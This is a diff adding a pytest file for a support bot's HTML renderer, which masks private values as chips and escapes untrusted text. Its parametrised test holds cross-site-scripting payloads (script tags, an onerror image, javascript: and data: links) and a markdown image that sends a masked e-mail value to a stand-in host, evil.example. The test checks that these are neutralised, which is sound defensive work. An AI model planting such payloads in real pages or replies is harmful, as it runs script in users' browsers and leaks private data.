@@ -1,0 +1,51 @@
+"""Masked text as HTML: chips for private values, and nothing that a customer or model writes runs."""
+
+from collections.abc import Callable
+
+import pytest
+
+from bot.desk import rendering
+
+KINDS = {"hidden": "Hidden", "EMAIL": "E-mail", "PERSON": "Name", "PRIVATE": "Private"}
+
+
+def test_rich_shows_markdown_and_chips() -> None:
+    html = rendering.rich("**Sent** to <EMAIL_1>, `<PERSON_2>`", KINDS)
+    assert "<strong>Sent</strong>" in html
+    assert "E-mail 1</span>" in html
+    assert "Name 2</span>" in html
+    assert "EMAIL_1" not in html
+
+
+def test_plain_shows_chips_and_leaves_the_rest_as_typed() -> None:
+    html = rendering.plain("**no markdown** <EMAIL_12> & <b>\n<OTHER_1>", KINDS)
+    assert html.startswith("**no markdown** <span class=")
+    assert "E-mail 12</span>" in html
+    assert "Private 1</span>" in html
+    assert "&amp; &lt;b&gt;\n" in html
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "<script>alert(1)</script>",
+        '<img src=x onerror="alert(1)">',
+        "![x](https://evil.example/?q=<EMAIL_1>)",
+        "[x](javascript:alert(1))",
+        "[x](data:text/html,<script>alert(1)</script>)",
+        '[x](https://a.example "<EMAIL_1>")',
+        "<a href='javascript:alert(1)'>x</a>",
+        "\ue0000\ue001 \ue0007\ue001",
+    ],
+)
+@pytest.mark.parametrize("render", [rendering.rich, rendering.plain])
+def test_nothing_hostile_survives(render: Callable[[str, dict[str, str]], str], text: str) -> None:
+    html = render(text, KINDS)
+    for evil in ("<script", "<img", 'href="javascript', 'href="data', "\ue000", 'title="<'):
+        assert evil not in html
+
+
+def test_placeholder_in_an_address_stays_an_address() -> None:
+    html = rendering.rich("[track](https://shop.example/?to=<EMAIL_1>)", KINDS)
+    assert 'href="https://shop.example/?to=EMAIL_1"' in html
+    assert "chip" not in html
